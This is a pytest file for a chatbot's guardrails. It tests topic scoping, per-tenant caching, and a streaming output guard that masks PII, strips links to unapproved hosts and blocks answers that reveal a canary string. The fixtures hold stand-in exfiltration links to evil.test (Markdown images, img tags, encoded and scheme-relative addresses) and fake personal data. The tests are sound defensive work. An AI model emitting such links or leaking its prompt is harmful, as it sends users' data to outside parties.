    # Evidence from the tenant's own documents admits it even if the topics do not.
    assert verdict("What is a good recipe for banana bread?", evidence=0.9) is None
    # A scope without description or topics admits everything.
    vector = embedder.embed(["anything"])[0]
    assert out_of_scope(vector=vector, topics=[], evidence=0.0, tenant_id=1).reason is None


@pytest.mark.parametrize(
    ("question", "bare"),
    [
        ("Can you explain that in more detail?", True),
        ("What's that?", True),
        ("Why?", True),
        ("Kannst du das genauer erklären?", True),
        ("Tell me more about the Roman Empire.", False),
        ("Why is the sky blue, then?", False),
        ("Und wie wird das Wetter morgen in Berlin?", False),
        ("", False),
        ("?!", False),
    ],
)
def test_a_question_names_no_subject_only_when_every_word_is_a_follow_up_word(question, bare):
    assert names_no_subject(question) is bare


@pytest.mark.parametrize(
    ("question", "back"),
    [
        ("How do I configure it?", True),
        ("When was it released?", True),
        ("How do I rotate them?", True),
        ("Wie konfiguriere ich es?", True),
        ("Can you explain that in more detail?", False),  # names nothing: the other rule
        ("Is there pagination?", False),  # "there" points nowhere
        ("Is that also true for cats and dogs?", False),  # two words of its own: a subject
        ("How do I configure the worker?", False),
        ("Erzähl mir mehr über das Mittelalter.", False),  # "das": an article
    ],
)
def test_a_question_refers_back_with_a_pronoun_and_one_word_of_its_own(question, back):
    assert refers_back(question) is back


@pytest.mark.django_db
def test_a_scopes_topic_vectors_are_kept_per_tenant() -> None:
    """Keyed by the topics alone, a tenant whose scope listed another tenant's topics got its
    first answer faster: a timing signal of what another tenant's scope says."""
    from conversations.guardrails import TOPICS, topic_vectors

    topics = ["a topic only this test names, 7f3a"]
    before = (TOPICS.misses, TOPICS.hits)
    first = topic_vectors(topics, tenant_id="tenant-1")
    topic_vectors(topics, tenant_id="tenant-1")
    other = topic_vectors(topics, tenant_id="tenant-2")
    assert (TOPICS.misses - before[0], TOPICS.hits - before[1]) == (2, 1)
    assert first == other


def test_topic_similarities_are_cosines_and_a_zero_vector_is_far_from_everything() -> None:
    """One matrix product for all of a scope's topics (it was one Python loop a topic): the
    same cosines, and no division by zero for an empty vector on either side."""
    from array import array

    from conversations.guardrails import _similarities

    kept = (array("f", [1.0, 0.0, 0.0]), array("f", [1.0, 1.0, 0.0]), array("f", [0.0] * 3))
    got = _similarities([2.0, 0.0, 0.0], kept)
    assert got == pytest.approx([1.0, 2**-0.5, 0.0])
    assert _similarities([0.0, 0.0, 0.0], kept) == [0.0, 0.0, 0.0]
    assert _similarities([1.0, 0.0, 0.0], ()) == []


def test_kept_topic_vectors_are_bounded_by_their_count_not_by_scopes() -> None:
    """512 scopes of 200 topics each were kept as Python floats: up to 1.3 GB per process,
    within one tenant admin's reach (edit a scope, chat, again). Now at most ``most`` vectors
    in all, as 32-bit floats, the oldest scopes' dropped first."""
    from conversations.guardrails import TopicVectors

    cache = TopicVectors(most=500)
    vectors = [[0.5] * 384] * 200
    for scope in range(3):
        kept = cache.put(("tenant", "model", f"scope {scope}"), vectors)
        assert kept[0].itemsize == 4 and len(kept) == 200
    assert cache.vectors == 400 and cache.get(("tenant", "model", "scope 0")) is None
    assert cache.get(("tenant", "model", "scope 2")) is not None


def test_a_less_than_sign_in_code_or_prose_is_not_held_as_a_tag() -> None:
    guard = OutputGuard(pii_entities=(), hosts=HOSTS)
    assert guard.feed("for (i = 0; i<n; i++) and a < b, ") == "for (i = 0; i<n; i++) and a < b, "
    assert guard.feed('then <img src="/a.png') == "then "  # a tag forming: held whole


@pytest.mark.parametrize(
    "pieces",
    [
        ["Write to john", " at example", " dot com today."],
        ["Write to john at", " example dot", " com today."],
        ["Call me on 555", " 1234", " please, thanks."],
        ["My SSN", " is", " 123 45 6789 ok."],
        ["Card 4111 1111", " 1111 1111", " on file."],
        ["mail john(at)", "example(dot)", "com now."],
        ["see [docs](https://ev", "il.test/x) and", " more words"],
        ["plain words", " and more", " words."],
    ],
)
def test_pieces_of_plain_words_around_pii_and_links_are_guarded_as_the_whole(
    pieces: list[str],
) -> None:
    """A piece that holds no PII span skips the PII scan after the released text (the common
    case): the pieces next to it, that complete or announce a value, still mask it as the
    whole answer is masked, and no part of it shows."""
    guard = OutputGuard(hosts=HOSTS)
    emitted = [guard.feed(piece) for piece in pieces] + [guard.flush()]
    whole = pii.mask(sanitize_links("".join(pieces), HOSTS))
    assert "".join(emitted) == whole
    for raw in ("example dot com", "555 1234", "6789", "1111 1111", "example(dot)", "evil.test"):
        assert raw not in "".join(emitted) or raw in whole


# Pieces of answers: words, parts of words, PII, links, markup, the canary's prefix.
_ATOMS = ["the ", "plan ", "ren", "ew ", "every", " year", ". ", ", ", "; ", "Call ", "me ", "at ",
          "john", ".doe", "@example.com", " dot ", "com ", "555 ", "0199", "123-45-6789 ",
          "4111 1111 1111 1111 ", "word12 ", "word1234 ", "[1]", "[7] ", "[docs](https://evil.test/x) ",
          "https://docs.example.org/a ", "www.evil.test ", "<img src=x> ",
          "\n", "- item\n", "SSN ", "192.168.1.7 ", "a ", "AT", "DOT", "(at) ", "email ", "cnry-",
          "0123", "abcdef", "é", "  ", "\t", "&#58;", "![a](", ")", "`code` ", "'", "!"]  # fmt: skip


def _answers(count: int, seed: int) -> list[str]:
    rng = random.Random(seed)
    return ["".join(rng.choice(_ATOMS) for _ in range(rng.randint(1, 24))) for _ in range(count)]


def test_a_piece_within_one_word_is_held_whole_as_the_whole_cut_holds_it() -> None:
    """A buffer of ASCII without a space, tab or line end (a token going on the word before it)
    is held whole without the rest of the guard's work: what that work holds too, whatever the
    piece, the canary and the masking."""
    rng = random.Random(3)
    atoms = [a.strip() for a in _ATOMS if a.strip().isascii() and a.strip()] + ["x" * 50]
    checked = 0
    for answer in _answers(300, 4):
        for entities in (pii.ENTITIES, ()):
            guard = OutputGuard(canary="cnry-0123456789abcdef", pii_entities=entities, hosts=HOSTS)
            guard.feed(answer)  # a lead of released text, as a stream has
            for _ in range(20):
                buffer = "".join(rng.choice(atoms) for _ in range(rng.randint(1, 6)))
                if not one_word(buffer):
                    continue
                checked += 1
                assert guard._cut(buffer, guard._spans(buffer)) == 0, buffer
    assert checked > 5000
    assert not one_word("a b") and not one_word("é") and not one_word("x" * (MAX_HOLD + 1))


def test_links_are_searched_for_only_in_a_buffer_with_their_characters() -> None:
    """The guard skips the Markdown link and reference patterns in a buffer without "[", and
    the bare URL one without ":", "/", "\\" or "www.": they match nothing there."""
    checked = 0
    for answer in _answers(3000, 5):
        for text in (answer, answer.replace("[", ""), answer.replace(":", "").replace("/", "")):
            if "[" not in text:
                assert not _MD_LINK.search(text) and not _MD_REFERENCE.search(text), text
            if not any(c in text for c in ":/\\") and "www." not in text.lower():
                checked += 1
                assert not _BARE_URL.search(text), text
    assert checked > 1000


@pytest.mark.parametrize("seed", range(4))
def test_answers_split_anywhere_are_guarded_as_the_whole(seed: int) -> None:
    """Many answers (plain words, parts of words, PII, links, markup), each split at every size
    from 1 to 9 and at random points, with PII masking on and off and a canary: the pieces
    together are what guarding the whole answer gives, and an answer that writes the canary is
    cut before any of it shows."""
    canary = "cnry-0123456789abcdef"
    rng = random.Random(seed)
    streams = 0
    for answer in _answers(120, 100 + seed):
        if rng.random() < 0.1:
            answer += canary + " and more"
        for entities in (pii.ENTITIES, ()):
            whole = sanitize_links(answer, HOSTS)
            whole = pii.mask(whole, entities) if entities else whole
            for size in [*range(1, 10), 0]:
                guard = OutputGuard(canary=canary, pii_entities=entities, hosts=HOSTS)
                pieces, i = [], 0
                while i < len(answer):
                    step = size or rng.randint(1, 12)
                    pieces.append(answer[i : i + step])
                    i += step
                emitted = []
                try:
                    emitted += [guard.feed(piece) for piece in pieces]
                    emitted.append(guard.flush())
                except PolicyBlocked:
                    assert canary in answer
                    assert canary[5:] not in "".join(emitted)
                    continue
                streams += 1
                assert canary not in answer
                assert "".join(emitted) == whole, (answer, size, entities)
    assert streams > 1500


# Answers whose stream showed other text than their JSON answer (2026-12-07, late night; found
# by a differential of random answers in pieces and whole, below).
STREAM_PARITY = [
    # A scheme-relative address after a Chinese letter: kept in the JSON answer ("\w" before
    # it), removed from the stream, which had released "见" apart from it.
    "详情见//evil.test/x。谢谢",
    # ... and one whose host's dot had not come yet: released at each Chinese letter.
    "Call //@例子.中国( now",
    "见//例子.中国/x 好",
    # A URL from "https" until the dot comes, from "//" after it.
    "//https:@ตัวอย่าง.ไทย ok",
    # A character reference: the holds read "&#47;/" as no address, and cut it after "/".
    "&#47;/evil.test/r ติดต่อ",
    # A bare URL running on from inside a Markdown image: the cut moved to its start was inside
    # the image, released in part ("![i](").
    "\n![i](https://evil.test/p)ใช้123-45-6789 //evil.test/x ",
    # A phone after a removed URL that ends in digits: the released text as the JSON answer
    # reads it, "[link removed] 0171 2345678", not "https:123-45-6789 0171 2345678".
    "//evil.test/x https:123-45-6789 0171 2345678 [1]。\uff0c",
    # A local number before a URL: "555 0199 [link removed]" in the JSON answer.
    "so 555 0199 https://evil.test/y ",
]


@pytest.mark.parametrize("entities", [(), pii.ENTITIES], ids=["no-pii", "pii"])
@pytest.mark.parametrize("size", [1, 2, 3, 5])
@pytest.mark.parametrize("text", STREAM_PARITY)
def test_answers_with_other_scripts_and_addresses_stream_as_their_json_answer(
    text: str, size: int, entities: tuple[str, ...]
) -> None:
    whole, _ = run(OutputGuard(pii_entities=entities, hosts=HOSTS), text, 10_000)
    streamed, pieces = run(OutputGuard(pii_entities=entities, hosts=HOSTS), text, size)
    assert streamed == whole
    assert "evil" not in whole and not any("evil" in piece for piece in pieces)
    assert "例子.中国" not in whole or not text.startswith("Call")


def test_a_scheme_relative_address_after_chinese_text_is_an_address() -> None:
    assert sanitize_links("详情见//evil.test/x 谢谢", HOSTS) == f"详情见{LINK_REMOVED} 谢谢"
    assert sanitize_links("见//docs.example.org/a", HOSTS) == "见//docs.example.org/a"
    assert sanitize_links("a//evil.test/x", HOSTS) == "a//evil.test/x"  # after ASCII: a path


def test_a_local_number_before_a_url_is_a_phone_as_before_the_url_s_mask() -> None:
    assert pii.mask("so 555 0199 https://evil.test/y") == "so [PHONE] https://evil.test/y"
    assert pii.mask("so 555 0199 [link removed]") == "so [PHONE] [link removed]"
    assert pii.mask("so 555 0199 Oak Road") == "so 555 0199 Oak Road"


# Pieces of answers in other scripts: Chinese, Japanese, Korean, Thai, Hebrew and Arabic words,
# direction marks, marks and emoji, with addresses (scheme-relative, character references, in
# IDN hosts) and PII among them. (Not here: Arabic-Indic or full-width digits next to other
# numbers, a Markdown link right after a number, digits glued to a URL's end: known gaps,
# docs/GUARDRAILS.md.)
_SCRIPT_ATOMS = [
    "the ", "plan ", "续订", "请", "见", "。", "\uff0c", "用户", "@例子.中国 ", "مرحبا ", "שלום ", "\u200f",
    "\u200e", "//evil.test/x ", "//例子.中国/x ", "https://evil.test/y ", "www.evil.test ",
    "see [a](//evil.test/z) ", "so ![i](https://evil.test/p) ", "john@example.com ", "555 0199 ",
    "Call ", "+91 98765 43210 ", "98765 43210 ", "123-45-6789 ", "4111 1111 1111 1111 ",
    "192.168.1.7 ", "DE89 3704 0044 0532 0130 00 ", "\n", " ", "<img src=//evil.test/q> ",
    "&#47;/evil.test/r ", "\\\\evil.test/s ", "ได้", "ติดต่อ", "@ตัวอย่าง.ไทย ", "メールは", "山田",
    "です", "한국", "에게 ", "\uff10\uff13-\uff11\uff12\uff13\uff14-\uff15\uff16\uff17\uff18 ", "phone: ", "e-mail ", "at ", "dot ", "com ", "é",
    "\u0301", "👍🏽", ")", "(", ":", "https:", "\u00a0", "\u3000", "[1]", "SSN ", "0171 2345678 ",
]  # fmt: skip


@pytest.mark.parametrize("seed", range(3))
def test_answers_in_other_scripts_split_anywhere_stream_as_their_json_answer(seed: int) -> None:
    """The guard fed an answer whole (a JSON answer's single piece) and in pieces of 1, 2, 3, 5
    and random sizes gives the same text, with PII masking on and off."""
    rng = random.Random(seed)
    streams = 0
    for _ in range(100):
        answer = "".join(rng.choice(_SCRIPT_ATOMS) for _ in range(rng.randint(1, 14)))
        for entities in (pii.ENTITIES, ()):
            whole, _ = run(OutputGuard(pii_entities=entities, hosts=HOSTS), answer, 10_000)
            for size in (1, 2, 3, 5, 0):
                guard = OutputGuard(pii_entities=entities, hosts=HOSTS)
                pieces, i = [], 0
                while i < len(answer):
                    step = size or rng.randint(1, 12)
                    pieces.append(answer[i : i + step])
                    i += step
                streamed = "".join(guard.feed(piece) for piece in pieces) + guard.flush()
                streams += 1
                assert streamed == whole, (answer, pieces, entities)
    assert streams == 1000
